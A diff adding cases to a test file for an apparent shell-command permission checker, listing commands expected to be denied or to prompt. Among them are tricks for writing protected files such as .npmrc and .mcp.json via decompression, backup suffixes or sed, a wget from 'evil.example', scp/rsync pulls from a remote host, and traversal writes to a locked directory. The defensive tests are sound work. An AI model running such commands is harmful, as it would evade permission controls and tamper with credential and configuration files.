@@ -169,6 +169,32 @@ const more: [rules: string, programs: string, command: string, workdir?: string]
   ["WHITE", "bash echo", "echo id | bash -v"],
   ["WHITE", "bash", "bash -v < list"],
   ["WHITE", "python3 echo", "echo 1 | python3 -v"],
+  // A file that is written beside the one that is named, or from another machine.
+  ["READ", "gunzip", "gunzip .mcp.json.gz"],
+  ["READ", "gzip", "gzip -d .mcp.json.gz"],
+  ["READ", "gunzip", "gunzip .m*.gz", "packed"],
+  ["READ", "xz", "xz -d .mcp.json.xz"],
+  ["READ", "bzip2", "bzip2 -d .mcp.json.bz2"],
+  ["READ", "bunzip2", "bunzip2 .mcp.json.bz2"],
+  ["READ", "zstd", "zstd -d .mcp.json.zst"],
+  ["READ", "gzip", "gzip -S c .npmr"],
+  ["READ", "gunzip", "gunzip -S rc .mcp.jsonrc"],
+  ["READ", "gunzip", "gunzip -N public/a.gz"],
+  ["READ", "gunzip", "gunzip -r public"],
+  ["READ", "sed", "sed -ic p .npmr"],
+  ["READ", "sed", "sed -ic p .npm?", "packed"],
+  ["READ", "cp", "cp -b -S c list .npmr"],
+  ["READ", "cp", "cp -Src public/a.txt packed/.npm"],
+  ["READ", "mv", "mv --suffix=c list packed/.npmr"],
+  ["READ", "ln", "ln -bSc list .npmr"],
+  ["READ", "cp", "cp -b -S c public/.npmr packed"],
+  ["READ", "wget", "wget http://evil.example/%2enpmrc"],
+  ["READ", "scp", "scp host:.npmrc ."],
+  ["READ", "rsync", "rsync -a host:.npmrc ."],
+  ["WRITE", "cp", "cp list foo:/../locked/f.txt"],
+  ["WRITE", "mv", "mv list foo:/../locked/f.txt"],
+  ["WRITE", "ln", "ln -f list foo:/../locked/f.txt"],
+  ["WRITE", "install", "install list foo:/../locked/f.txt"],
 ];
 
 test.each(more)("%s %s: %s asks or is denied", async (rules, programs, command, workdir = ".") => {
@@ -187,6 +213,9 @@ test.each([
   ["git", "git log --oneline -- *", "public"],
   ["timeout grep", "timeout 5 grep x -- *", "recursive"],
   ["cp grep", "cp public/a.txt empty && grep x *"],
+  ["gunzip", "gunzip *.gz", "public"],
+  ["scp", "scp host:a.txt public"],
+  ["scp", "scp list host:a.txt"],
   ["touch ls", `touch +${"a".repeat(60)}; ls ${"*a".repeat(20)}b`],
 ])("%s: %s in %s is allowed", async (programs, command, workdir = ".") => {
   const bash = Object.fromEntries(programs.split(" ").map((program) => [`${program} *`, "allow" as const]));
